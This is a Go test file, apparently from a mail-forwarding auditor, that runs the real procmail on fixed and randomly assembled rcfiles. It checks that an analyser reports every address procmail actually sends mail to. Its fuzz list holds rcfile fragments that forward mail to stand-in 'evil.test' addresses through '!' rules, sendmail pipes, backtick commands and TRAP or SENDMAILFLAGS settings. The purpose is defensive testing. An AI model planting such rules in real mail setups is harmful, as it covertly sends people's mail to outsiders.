package procmail_test

import (
	"math/rand/v2"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"relayguard/forward"
	"relayguard/forward/procmail"
)

// covered reports whether a target of a result says that mail goes to an address.
func covered(targets []procmail.Target, address string) bool {
	return slices.ContainsFunc(targets, func(t procmail.Target) bool {
		if t.Kind != forward.Address || t.Dormant != "" {
			return false
		}
		if t.Target == address {
			return true
		}
		pattern := strings.ReplaceAll(regexp.QuoteMeta(t.Target), regexp.QuoteMeta(forward.Unknown), `[\s\S]*`)
		return t.Dynamic && regexp.MustCompile(`^`+pattern+`$`).MatchString(address)
	})
}

// TestRealProcmailSendsToTargets runs every case with the real procmail: it
// calls sendmail for the targets that are told, and for no others.
func TestRealProcmailSendsToTargets(t *testing.T) {
	r := newReal(t)
	for _, c := range rcCases(t) {
		t.Run(c.name, func(t *testing.T) {
			got := r.deliver(t, c.rc, c.files)
			targets := procmail.Targets([]byte(c.rc), c.options(home)).Targets
			for _, address := range got {
				if !covered(targets, address) {
					t.Errorf("procmail sends to %q, which is not told", address)
				}
			}
			for _, target := range targets {
				maybe := c.maybe[said([]procmail.Target{target}, target.Source)[0]]
				if target.Kind == forward.Address && !target.Dynamic && target.Dormant == "" && !maybe && !slices.Contains(got, target.Target) {
					t.Errorf("procmail does not send to %q; it does to %q", target.Target, got)
				}
			}
		})
	}
}

// pieces are what random rcfiles are made of.
var pieces = []string{
	":0\n", ":0 c\n", ":0 E\n", ":0 A\n", ":0fhw\n", ":\n", ":1\n", ":0 hc\n", ":", "0", " ", "\t", "\n", "\n\n",
	"! a@evil.test\n", "!b@evil.test $A\n", "! $A $B\n", "! ${A:-c@evil.test}\n", "! ${C-d@evil.test} # e@evil.test\n", "! \"$A\"\n",
	"! \"f@evil.test", "'", "\"", "\\", "\\\n", "! $\n", "| sendmail g@evil.test\n", "| cat | sendmail h@evil.test $B\n", "X=| sendmail i@evil.test\n",
	"X=! j@evil.test\n", "{\n", "{ ", "}\n", "} ", "}", "* ^Subject:.*match\n", "* ! ^Subject:.*match\n", "* ? sendmail k@evil.test\n",
	"* $ ^Subject:.*$A\n", "* ^From:.*\\/[a-z]+\n", "! $MATCH@evil.test\n", "A=l@evil.test\n", "A=m@evil.test ", "A = n@evil.test\n", "B=\"o@evil.test p@evil.test\"\n",
	"B=`echo q@evil.test`\n", "B=`sendmail r@evil.test`\n", "A\n", "A ", "SENDMAILFLAGS=s@evil.test\n", "TRAP='sendmail t@evil.test $A'\n",
	"SWITCHRC=/dev/null\n", "SWITCHRC=more.rc\n", "INCLUDERC=more.rc\n", "INCLUDERC=`echo more.rc`\n", "HOST=other.test\n", "HOST=x$A\n", "# comment\n", " #", "foo:", "inbox\n", "/dev/null\n", "${A:+", "${C:-", "$", "`", "(", ")", "DEFAULT=/dev/null\n",
	"LINEBUF=128\n", "SHELLMETAS=\n", "MAILDIR=sub\n", "MAILDIR=.\n", "\r\n", "u@evil.test\n", "* A ?? \\/.*\n", "* 1^1 B ?? @\n", "\x00",
}

// TestRealProcmailSendsNowhereElse makes rcfiles of random pieces, and finds
// that the real procmail sends to nobody who is not told.
func TestRealProcmailSendsNowhereElse(t *testing.T) {
	r := newReal(t)
	sent, told := 0, 0
	for seed := range uint64(runs()) {
		random := rand.New(rand.NewPCG(seed, 6))
		text := func(pieceCount int) string {
			var b strings.Builder
			for range random.IntN(pieceCount) {
				b.WriteString(pieces[random.IntN(len(pieces))])
			}
			return b.String()
		}
		c := rcCase{rc: text(24), files: map[string]string{"more.rc": strings.ReplaceAll(text(10), "more.rc", "none.rc")}}
		got := r.deliver(t, c.rc, c.files)
		result := procmail.Targets([]byte(c.rc), c.options(home))
		sent += len(got)
		told += len(result.Targets)
		for _, address := range got {
			if !covered(result.Targets, address) && len(result.Gaps) == 0 {
				t.Errorf("seed %d: procmail sends to %q, which is not told, by %q, more.rc %q", seed, address, c.rc, c.files["more.rc"])
			}
		}
	}
	if sent < runs()/10 {
		t.Errorf("%d mails of %d rcfiles: the pieces are no test", sent, runs())
	}
	t.Logf("%d mails, %d targets", sent, told)
}

// runs is how many random rcfiles are tried.
func runs() int {
	if n, err := strconv.Atoi(os.Getenv("RELAYGUARD_RANDOM")); err == nil {
		return n
	}
	return 50
}
